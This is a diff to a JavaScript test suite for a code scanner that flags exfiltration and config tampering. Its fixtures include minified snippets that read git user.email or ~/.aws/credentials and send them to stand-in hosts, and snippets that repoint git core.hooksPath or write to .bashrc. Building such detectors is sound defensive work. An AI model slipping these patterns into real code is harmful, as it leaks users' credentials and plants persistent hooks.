@@ -14,6 +14,21 @@ describe('correlation: exfiltration', () => {
     ]);
   });
 
+  // Claude Code 2.1.25 (review 82): `git config --get user.email` run with an argument list through a spawn wrapper, then posted with the gh login.
+  it("follows a named source in a program's argument list: execFileSync, a spawn wrapper's stdout chunks, Promise.all's elements", () => {
+    const code = [
+      'const{execFileSync,execSync,spawn}=require("child_process");async function a(){const e=execFileSync("git",["config","user.email"],{encoding:"utf8"});await fetch("https://api.example.com/a?e="+encodeURIComponent(e))}',
+      'function R6(cmd,args){return new Promise(res=>{const p=spawn(cmd,args,{stdio:["ignore","pipe","pipe"]});let out="";p.stdout.on("data",d=>out+=d);p.on("close",code=>res({code,stdout:out}))})}async function email(){const A=await R6("git",["config","--get","user.email"]);return A.code===0?A.stdout.trim():null}async function link(){const[u,e]=await Promise.all([R6("gh",["auth","status"]),email()]);await fetch("https://api.example.com/link",{method:"POST",body:JSON.stringify({git_user_email:e})})}',
+    ].join('\n');
+    assert.deepEqual(only('exfiltration', code).map(f => `${f.line} ${f.severity} ${f.message}`), [
+      '1 medium Sends git user.email in a network request to api.example.com',
+      '2 medium Sends git user.email in a network request to api.example.com',
+    ]);
+    // Options (an environment given to the process) are not what it prints; a name only in a message is no read.
+    const options = 'const{execSync}=require("child_process");async function b(){const o=execSync("date",{env:{EMAIL:"user.email"}});await fetch("https://api.example.com/b?o="+o)}async function c(){const r=await Promise.all([fetch("https://api.example.com/v")]);await fetch("https://api.example.com/c",{method:"POST",body:"set git config user.email first"})}';
+    assert.deepEqual(only('exfiltration', options), []);
+  });
+
   it('flags a credential file read and a network call in one function, at the call, with the read related', () => {
     const code = 'const fs=require("fs"),p=require("path"),o=require("os");\nasync function r(){const t=fs.readFileSync(p.join(o.homedir(),".aws","credentials"),"utf8");await fetch("https://collector.example.io/u",{method:"POST",body:t})}';
     const [x, ...rest] = only('exfiltration', code);
@@ -621,6 +636,19 @@ describe('correlation: config-tamper', () => {
     ]);
     const alias = 'const fs=require("fs"),os=require("os"),path=require("path");var a={writeFileSync(p,d){fs.writeFileSync(p,d)}};function io(){return a}function add(line,exists){const rc=path.join(os.homedir(),".bashrc");let G=io();if(exists)G.writeFileSync(rc,"# x\\n"+line);else G.writeFileSync(rc,line)}';
     assert.deepEqual(only('config-tamper', alias).map(f => `${f.severity} ${f.message}`), ['medium Writes shell start-up file (fs.writeFileSync)'], 'at the adapter, for both writes');
+  });
+
+  // Copilot CLI 1.0.60 (review 82): hook scripts written into .git/copilot-hooks, then core.hooksPath pointed there.
+  it('reports a process start that sets core.hooksPath, not one that reads or unsets it', () => {
+    const code = [
+      'const{execFile,execSync}=require("child_process"),path=require("path");const run=require("util").promisify(execFile);async function configure(cwd){const l=path.join(cwd,".git","copilot-hooks");await run("git",["config","--local","core.hooksPath",l],{cwd})}',
+      'function husky(){execSync("git config core.hooksPath .husky")}',
+      'function reads(){return execSync("git config --get core.hooksPath").toString()}function unset(){execSync("git config --unset core.hooksPath")}function show(){return execSync("git config core.hooksPath")}',
+    ].join('\n');
+    assert.deepEqual(only('config-tamper', code).map(f => `${f.line} ${f.severity} ${f.message}`), [
+      '1 medium Points git hooks at a folder chosen at run time (git config --local core.hooksPath): git runs the scripts there on commits',
+      '2 medium Points git hooks at .husky (git config core.hooksPath): git runs the scripts there on commits',
+    ]);
   });
 
   // Kilo CLI, an OpenCode fork (reviews 60 and 71): its own settings share OpenCode's file name.
